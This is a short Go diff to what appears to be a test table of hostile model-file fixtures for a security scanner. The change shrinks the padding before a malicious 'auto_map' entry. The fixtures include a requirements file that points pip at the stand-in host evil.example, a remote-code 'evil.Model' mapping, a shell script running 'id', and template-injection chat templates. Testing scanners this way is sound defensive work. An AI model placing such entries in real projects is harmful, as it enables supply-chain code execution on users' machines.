@@ -98,7 +98,7 @@ func configurations() hostile {
 		"Llamafile/model.llamafile":                     "MZqFpD='\n\x00" + strings.Repeat("\x00", 200),
 		"desktop text/run":                              "#!/bin/sh\nid\n",
 		"requirements/requirements.txt":                 "--index-url http://evil.example/simple\ngit+https://evil.example/x.git\n",
-		"late, in a long json/config.json":              `{"a": "` + strings.Repeat("x", 70<<20) + `", "auto_map": {"AutoModel": "evil.Model"}}`,
+		"late, in a long json/config.json":              `{"a": "` + strings.Repeat("x", 6<<20) + `", "auto_map": {"AutoModel": "evil.Model"}}`,
 		"keras list/config.json":                        "[" + lambdaJSON + "]",
 		"template in the list of templates/config.json": `{"chat_template": [{"name": "default", "template": ` + fmt.Sprintf("%q", ssti) + `}]}`,
 		"prompt template in another key/config.json":    fmt.Sprintf(`{"default_template": %q}`, ssti),
